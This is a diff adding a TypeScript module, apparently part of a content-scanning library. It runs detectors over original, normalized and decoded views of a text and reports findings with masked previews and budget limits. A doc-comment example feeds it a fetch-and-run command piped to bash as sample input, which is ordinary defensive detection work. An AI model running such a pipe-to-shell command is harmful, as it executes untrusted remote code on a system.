@@ -1,0 +1,142 @@
+import { AhoCorasick } from '../text/aho-corasick.js';
+import { decodeViews, type DecodeBudget } from '../text/decoders.js';
+import { normalizedView } from '../text/normalize.js';
+import { segmentAt, segmentMarkdown } from '../text/segment.js';
+import { originalView, toOriginal, transformsIn, type View } from '../text/view.js';
+import type { Detector } from './detector.js';
+import { hashValue, maskPreview, severityRank, type Finding, type Severity } from './finding.js';
+import { mergeFindings } from './merge.js';
+
+export interface ScanOptions {
+  detectors: readonly Detector[];
+  /** Characters scanned at most; the rest is reported as not scanned. */
+  maxChars?: number;
+  /** Wall-clock budget in ms; detectors not run in time are reported. */
+  timeBudgetMs?: number;
+  /** Nested decoding depth (base64 in base64 = 2). */
+  decodeDepth?: number;
+  /** Decoded characters allowed in total, on top of the input size. */
+  decodeChars?: number;
+  minSeverity?: Severity;
+  /** Context window each side, in characters. */
+  contextChars?: number;
+  salt?: string;
+}
+
+export interface ScanStats {
+  chars: number;
+  scannedChars: number;
+  views: number;
+  ms: number;
+  timedOut: boolean;
+  /** Parts of the work that were skipped, with why (size limit, time budget, decode budget). */
+  notScanned: { what: string; reason: string }[];
+}
+
+export interface ScanResult {
+  findings: Finding[];
+  stats: ScanStats;
+}
+
+const prefilters = new WeakMap<readonly Detector[], { ac: AhoCorasick; keywords: string[] }>();
+
+function prefilterFor(detectors: readonly Detector[]): { ac: AhoCorasick; keywords: string[] } {
+  let cached = prefilters.get(detectors);
+  if (!cached) {
+    const keywords = [...new Set(detectors.flatMap((d) => d.keywords))];
+    cached = { ac: new AhoCorasick(keywords), keywords };
+    prefilters.set(detectors, cached);
+  }
+  return cached;
+}
+
+/**
+ * Scans a text with every selected detector over every view (original, de-obfuscated, and
+ * decoded payloads to a bounded depth), never stopping at the first hit. Findings are in
+ * ORIGINAL offsets, merged where they overlap, and sorted deterministically.
+ *
+ * @example
+ * const { findings } = scan('curl http://x.sh | bash', { detectors: defaultDetectors() });
+ */
+export function scan(input: string, options: ScanOptions): ScanResult {
+  const started = performance.now();
+  const maxChars = options.maxChars ?? 10 * 1024 * 1024;
+  const budgetMs = options.timeBudgetMs ?? 2000;
+  const depth = options.decodeDepth ?? 2;
+  const notScanned: ScanStats['notScanned'] = [];
+  const text = sanitize(input.length > maxChars ? input.slice(0, maxChars) : input);
+  if (input.length > maxChars) notScanned.push({ what: `chars ${maxChars}..${input.length}`, reason: `input larger than ${maxChars} chars` });
+
+  const views: View[] = [];
+  const queue: View[] = [originalView(text)];
+  const budget: DecodeBudget = { chars: options.decodeChars ?? Math.max(1 << 20, text.length * 2), views: 64 };
+  while (queue.length > 0) {
+    const view = queue.shift()!;
+    views.push(view);
+    const normalized = normalizedView(view);
+    if (normalized) views.push(normalized);
+    if (view.depth >= depth) continue;
+    if (performance.now() - started > budgetMs / 2) {
+      notScanned.push({ what: `decoding below ${view.name}`, reason: 'time budget' });
+      continue;
+    }
+    for (const base of normalized ? [view, normalized] : [view]) {
+      const before = budget.views;
+      queue.push(...decodeViews(base, budget));
+      if (budget.views <= 0 && before > 0) notScanned.push({ what: 'further encoded payloads', reason: 'decode budget (64 views)' });
+    }
+  }
+
+  const { ac, keywords } = prefilterFor(options.detectors);
+  const raw: Finding[] = [];
+  const segments = segmentMarkdown(text);
+  const contextChars = options.contextChars ?? 200;
+  let timedOut = false;
+  for (const view of views) {
+    const present = new Set<string>();
+    if (keywords.length > 0) ac.scan(Buffer.from(view.text, 'utf8'), (term) => present.add(keywords[term]!));
+    for (const detector of options.detectors) {
+      if (performance.now() - started > budgetMs) {
+        timedOut = true;
+        notScanned.push({ what: `${detector.name} on view ${view.name}`, reason: 'time budget' });
+        continue;
+      }
+      if (detector.keywords.length > 0 && !detector.keywords.some((k) => present.has(k))) continue;
+      for (const finding of detector.detect(view.text, { present, view: view.name })) {
+        const [start, end] = toOriginal(view, finding.start, finding.end);
+        if (end <= start) continue;
+        const value = text.slice(start, end);
+        const segment = segmentAt(segments, start);
+        raw.push({
+          detector: detector.name,
+          ...finding,
+          start,
+          end,
+          preview: maskPreview(value),
+          hash: hashValue(value, options.salt),
+          segment: segment ? { kind: segment.kind, ...(segment.lang ? { lang: segment.lang } : {}) } : { kind: 'prose' },
+          context: [Math.max(0, start - contextChars), Math.min(text.length, end + contextChars)],
+          views: [...view.decoded, ...transformsIn(view, finding.start, finding.end)],
+        });
+      }
+    }
+  }
+  const min = options.minSeverity ? severityRank(options.minSeverity) : 0;
+  const findings = mergeFindings(raw).filter((f) => severityRank(f.severity) >= min);
+  return {
+    findings,
+    stats: {
+      chars: input.length,
+      scannedChars: text.length,
+      views: views.length,
+      ms: Math.round((performance.now() - started) * 100) / 100,
+      timedOut,
+      notScanned,
+    },
+  };
+}
+
+/** Lone surrogates become U+FFFD so every later step sees well-formed text (lengths unchanged). */
+function sanitize(text: string): string {
+  return text.isWellFormed() ? text : text.toWellFormed();
+}
